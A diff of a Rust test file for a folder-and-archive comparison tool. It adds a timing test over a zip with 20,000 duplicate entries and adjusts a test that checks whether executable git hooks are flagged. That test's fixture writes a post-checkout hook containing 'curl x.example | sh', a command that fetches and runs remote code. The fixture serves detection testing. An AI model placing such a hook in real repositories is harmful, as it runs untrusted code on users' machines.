@@ -503,13 +503,39 @@ with zipfile.ZipFile(sys.argv[1], 'w', zipfile.ZIP_DEFLATED) as z:
 }
 
 #[test]
+fn many_members_of_one_name_take_no_long_time() {
+    let folder = scratch();
+    let pack = "
+import sys, zipfile, warnings
+warnings.simplefilter('ignore')
+with zipfile.ZipFile(sys.argv[1], 'w') as z:
+    for n in range(20000): z.writestr('x.js', 'one and the same, once more\\n')
+";
+    let zip = folder.path().join("many.zip");
+    python(["-c".as_ref(), pack.as_ref(), zip.as_os_str()]);
+    let other = folder.path().join("other");
+    write(
+        &other,
+        &[
+            ("a/y.js", b"one and the same, once more\n"),
+            ("a/x.js", b"another\n"),
+        ],
+    );
+    let started = std::time::Instant::now();
+    let records = compare(0, [&other, &zip]);
+    assert_eq!(counts(whole(&records))[2..5], [19_999, 1, 0]);
+    let back = compare(0, [&zip, &other]);
+    assert_eq!(counts(whole(&back))[5], 19_998);
+    assert!(started.elapsed().as_secs() < 120, "{:?}", started.elapsed());
+}
+
+#[test]
 fn hooks_that_git_runs_are_files_of_a_copy() {
     let folder = scratch();
     let (a, b) = (folder.path().join("a"), folder.path().join("b"));
     for side in [&a, &b] {
         write(side, &[("x.js", &program(1, 9))]);
         git(side, ["init", "-q"]);
-        write(side, &[(".git/hooks/pre-push.sample", b"#!/bin/sh\n")]);
     }
     write(
         &b,
@@ -518,6 +544,8 @@ fn hooks_that_git_runs_are_files_of_a_copy() {
             b"#!/bin/sh\ncurl x.example | sh\n",
         )],
     );
+    // git runs none that is called so.
+    write(&b, &[(".git/hooks/odd.sample", b"#!/bin/sh\n")]);
     let records = compare(0, [&a, &b]);
     assert_eq!(changes(&records), ["added - .git/hooks/post-checkout"]);
     records.at("change", "b/.git!/hooks/post-checkout");
